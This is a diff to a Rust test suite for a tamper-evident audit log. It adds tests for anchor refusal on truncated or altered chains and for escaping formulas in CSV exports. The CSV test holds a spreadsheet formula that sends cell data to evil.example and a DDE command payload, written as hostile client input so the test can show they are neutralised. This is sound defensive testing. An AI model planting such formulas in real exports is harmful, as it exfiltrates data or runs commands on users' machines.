@@ -80,12 +80,8 @@ async fn an_intact_chain_verifies_and_matches_its_anchor() {
     let dir = temp_dir();
     let a = anchor_now(&t.pool, &dir).await;
     assert_eq!((a.last_id, a.row_count), (30, 30));
-    let mut redis = server::db::redis(&redis_url()).unwrap();
-    let latest = anchor::latest_anchor(&dir, Some(&mut redis), KEY)
-        .await
-        .unwrap()
-        .unwrap();
-    assert_eq!(latest, a);
+    let kept = anchor::highest_anchor(&dir, KEY).unwrap().unwrap();
+    assert_eq!(kept, a);
     let r = check(&t.pool, Some(&a)).await;
     assert!(r.ok, "{r:?}");
     assert_eq!(r.checked, 30);
@@ -192,6 +188,110 @@ async fn a_chain_rehashed_after_an_edit_is_caught_by_the_anchor() {
     t.drop_db().await;
 }
 
+/// `audit.anchor_refused` rows, all of them critical.
+async fn refused_anchors(pool: &PgPool) -> i64 {
+    sqlx::query_scalar(
+        "SELECT count(*) FROM deltran.audit_log \
+         WHERE action = $1 AND severity = 'critical' AND result = 'failure'",
+    )
+    .bind(anchor::REFUSED_ACTION)
+    .fetch_one(pool)
+    .await
+    .unwrap()
+}
+
+#[tokio::test]
+async fn a_truncated_chain_is_never_anchored_and_verify_names_the_truncation() {
+    let t = TestDb::migrated().await;
+    append(&t.pool, 30).await;
+    let dir = temp_dir();
+    let out = cli(&t.url, &dir, &["audit", "anchor"]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    // Cut the last ten rows and rewind the head, then "restart": the chain looks whole.
+    tamper(&t.pool, "DELETE FROM deltran.audit_log WHERE id > 20").await;
+    tamper(
+        &t.pool,
+        "UPDATE deltran.audit_head SET last_id = 20, \
+         last_hash = (SELECT event_hash FROM deltran.audit_log WHERE id = 20)",
+    )
+    .await;
+    assert!(
+        check(&t.pool, None).await.ok,
+        "without an anchor it looks fine"
+    );
+
+    let out = cli(&t.url, &dir, &["audit", "anchor"]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
+    let err = text(&out.stderr);
+    assert!(
+        err.contains("audit anchor refused") && err.contains("below the anchor"),
+        "{err}"
+    );
+    assert_eq!(refused_anchors(&t.pool).await, 1);
+    let files = std::fs::read_dir(dir.join("audit-anchors"))
+        .unwrap()
+        .count();
+    assert_eq!(files, 2, "still the first anchor and latest.json only");
+
+    // An anchor of the short chain in latest.json (as the console signed before this fix)
+    // does not hide the cut: the highest anchor kept counts.
+    let head = audit_db::get(&t.pool, 21).await.unwrap().unwrap();
+    let short = Anchor::new(21, &head.event_hash, 21, KEY);
+    std::fs::write(
+        dir.join("audit-anchors/latest.json"),
+        serde_json::to_vec(&short).unwrap(),
+    )
+    .unwrap();
+    let out = cli(&t.url, &dir, &["audit", "verify"]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
+    let err = text(&out.stderr);
+    assert!(
+        err.contains("head behind the anchor") && err.contains("truncated"),
+        "{err}"
+    );
+    assert!(err.contains("signed 30 rows"), "{err}");
+
+    // With no anchor file at all, verify says so; it never falls back to the Redis copy.
+    std::fs::remove_dir_all(dir.join("audit-anchors")).unwrap();
+    let out = cli(&t.url, &dir, &["audit", "verify"]);
+    assert!(
+        text(&out.stdout).contains("no anchor file"),
+        "{}",
+        text(&out.stdout)
+    );
+    t.drop_db().await;
+}
+
+#[tokio::test]
+async fn an_anchor_is_refused_when_the_anchored_row_changed() {
+    let t = TestDb::migrated().await;
+    append(&t.pool, 10).await;
+    let dir = temp_dir();
+    anchor_now(&t.pool, &dir).await;
+    tamper(
+        &t.pool,
+        &format!(
+            "UPDATE deltran.audit_log SET event_hash = '{}' WHERE id = 10",
+            "ab".repeat(32)
+        ),
+    )
+    .await;
+    append(&t.pool, 2).await;
+    let err = anchor::anchor_now(&t.pool, None, &dir, KEY)
+        .await
+        .unwrap_err();
+    assert!(
+        err.to_string().contains("row 10 no longer has the hash"),
+        "{err}"
+    );
+    assert_eq!(refused_anchors(&t.pool).await, 1);
+    assert_eq!(
+        anchor::highest_anchor(&dir, KEY).unwrap().unwrap().last_id,
+        10
+    );
+    t.drop_db().await;
+}
+
 #[tokio::test]
 async fn a_range_check_links_to_the_row_before_it() {
     let t = TestDb::migrated().await;
@@ -294,9 +394,9 @@ async fn an_anchor_with_a_bad_signature_is_an_error() {
     let mut a: Anchor = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
     a.last_id = 2;
     std::fs::write(&path, serde_json::to_vec(&a).unwrap()).unwrap();
-    let err = anchor::latest_anchor(&dir, None, KEY).await.unwrap_err();
+    let err = anchor::highest_anchor(&dir, KEY).unwrap_err();
     assert!(err.to_string().contains("does not verify"), "{err}");
-    let err = anchor::latest_anchor(&dir, None, "another key").await;
+    let err = anchor::highest_anchor(&dir, "another key");
     assert!(err.is_err());
     t.drop_db().await;
 }
@@ -353,6 +453,68 @@ async fn exports_stream_every_matching_row_and_are_audited() {
             ("exporter".to_string(), "jsonl".to_string())
         ]
     );
+    assert!(check(&t.pool, None).await.ok);
+    t.drop_db().await;
+}
+
+#[tokio::test]
+async fn csv_cells_from_clients_cannot_run_as_formulas_and_json_lines_stay_exact() {
+    let t = TestDb::migrated().await;
+    let agent = r#"=HYPERLINK("http://evil.example/?x="&A1,"Open")"#;
+    let username = "@SUM(1+1)*cmd|' /C calc'!A0";
+    // A failed sign-in: its username and user agent are whatever the client sent.
+    let mut tx = t.pool.begin().await.unwrap();
+    app::backend::audit::append(
+        &mut tx,
+        &AuditEvent::new(
+            Actor {
+                id: None,
+                kind: "user",
+                name: username.into(),
+            },
+            "auth.login",
+            "session",
+            None,
+        ),
+        &app::backend::context::RequestContext {
+            request_id: "r-formula".into(),
+            ip: None,
+            user_agent: Some(agent.into()),
+        },
+    )
+    .await
+    .unwrap();
+    tx.commit().await.unwrap();
+    let only = AuditFilter {
+        action: Some("auth.login".into()),
+        ..Default::default()
+    };
+    let export = |format| {
+        let pool = t.pool.clone();
+        let only = only.clone();
+        async move {
+            let stream = export::export(&pool, &only, format, Actor::system("auditor"))
+                .await
+                .unwrap();
+            String::from_utf8(export::collect(stream).await.unwrap()).unwrap()
+        }
+    };
+    let csv = export(ExportFormat::Csv).await;
+    let row = csv.lines().nth(1).expect("the row");
+    assert!(
+        row.contains(r#""'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")""#),
+        "{row}"
+    );
+    assert!(row.contains("'@SUM(1+1)*cmd|' /C calc'!A0"), "{row}");
+    // No cell, quoted or not, starts with a formula character.
+    for cell in row.split(',') {
+        let cell = cell.trim_start_matches('"');
+        assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell} in {row}");
+    }
+    let jsonl = export(ExportFormat::Jsonl).await;
+    let line: serde_json::Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
+    assert_eq!(line["user_agent"], agent);
+    assert_eq!(line["actor_name"], username);
     assert!(check(&t.pool, None).await.ok);
     t.drop_db().await;
 }
